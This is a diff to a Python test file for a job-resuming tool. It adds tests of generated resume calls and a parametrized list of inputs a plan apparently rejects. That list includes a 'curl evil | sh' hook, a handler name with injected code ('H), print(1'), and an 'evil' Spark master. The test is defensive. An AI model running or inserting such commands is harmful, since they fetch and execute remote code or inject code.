@@ -168,10 +168,35 @@ def test_a_plan_keeps_no_option_that_runs_code_or_connects_elsewhere() -> None:
     assert elsewhere.needs == ("--master …",)
 
 
+def test_a_class_of_a_program_is_resumed_by_a_call_there_with_the_settings_of_its_run() -> None:
+    words = ("--handler", "__main__:Outer.Mine", "--concurrency", "5", "--tune", "grace=5s")
+    found = Resuming((*words, "--set", "log=a b", "--set", "n=1"), ("--set url=…",))
+    settings = "concurrency=5, grace_s='5s', options={'log': 'a b', 'n': '1'}"
+    assert found.way("p.json") == (
+        "To resume it: drainer.resume('p.json', client=…, handler=Outer.Mine,"
+        f" settings=drainer.LocalSettings({settings}))"
+        " (in the program that defines Outer.Mine; add --set url=… as before)"
+    )
+    changed(PLAN, resuming=found.to_keep()).account.check()
+    assert found.to_keep() == found
+    bare = Resuming(words[:2])
+    gap = "drainer.resume('p.json', client=…, handler=Outer.Mine, accept_gap=True)"
+    assert bare.command(Path("p.json"), ["--accept-gap"]) == gap
+
+
+def test_a_class_of_a_notebook_is_resumed_on_spark_by_its_call() -> None:
+    words = ("--handler", "n:f.<locals>.Mine", "--engine", "spark", "--concurrency", "10")
+    assert Resuming(words).way("p.json") == (
+        "To resume it: repeat drainer.spark.drain(…, plan='p.json', handler=Mine)"
+        " (in the program that defines Mine)"
+    )
+
+
 @pytest.mark.parametrize(
     "words",
     [
         ("--handler", "evil.py:H"),
+        ("--handler", "__main__:H), print(1"),
         ("--tune", "on-end=curl evil | sh"),
         ("--master", "spark://evil:7077"),
         ("--yes",),
